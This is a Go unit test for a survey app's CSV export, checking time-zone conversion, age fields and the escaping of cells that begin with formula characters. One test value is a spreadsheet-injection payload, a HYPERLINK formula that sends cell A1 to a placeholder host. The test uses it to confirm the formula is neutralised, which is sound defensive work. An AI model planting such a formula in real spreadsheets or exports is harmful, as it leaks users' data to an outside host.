package report_test

import (
	"slices"
	"testing"
	"time"

	"sukma/report"
	"sukma/storage"
)

func TestAppendCSV(t *testing.T) {
	jakarta, err := time.LoadLocation("Asia/Jakarta")
	if err != nil {
		t.Fatal(err)
	}
	row := storage.ResponseRow{
		FinishedAt: time.Date(2026, 1, 5, 2, 30, 0, 0, time.UTC).UnixMilli(),
		UnitCode:   "EXA", UnitName: "@Samsat", ServiceName: "Pembayaran PKB",
		Scores:       [9]int{4, 3, 0, 1, 2, 3, 4, 4, 4},
		JenisKelamin: "P", Usia: age(34), Pendidikan: "D1-D3",
		Perbaikan: `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`, Saran: "-antrean lama, +tambah loket",
		Lainnya: "asal_info: Dari tetangga\nkunjungan: 2",
	}
	got := report.AppendCSV([]string{"x"}, row, jakarta)
	want := []string{"x", "2026-01-05T09:30:00+07:00", "EXA", "'@Samsat", "Pembayaran PKB", "P", "34", "D1-D3", "",
		"4", "3", "", "1", "2", "3", "4", "4", "4",
		`'=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`, "'-antrean lama, +tambah loket", "asal_info: Dari tetangga\nkunjungan: 2"}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	if len(got)-1 != len(report.CSVHeader) {
		t.Errorf("%d fields for %d columns", len(got)-1, len(report.CSVHeader))
	}
	// Not answered is an empty field; 0, which a custom flow may allow, is an age.
	for _, tt := range []struct {
		usia       *int
		name, want string
	}{{nil, "no age", ""}, {age(0), "age 0", "0"}} {
		if f := report.AppendCSV(nil, storage.ResponseRow{Usia: tt.usia}, jakarta); f[5] != tt.want {
			t.Errorf("%s exported as %q, want %q", tt.name, f[5], tt.want)
		}
	}
	saran := slices.Index(report.CSVHeader, "saran")
	for _, s := range []string{"\tx", "\rx", "+62812"} {
		if f := report.AppendCSV(nil, storage.ResponseRow{Saran: s}, jakarta); f[saran] != "'"+s {
			t.Errorf("saran %q exported as %q", s, f[saran])
		}
	}
}
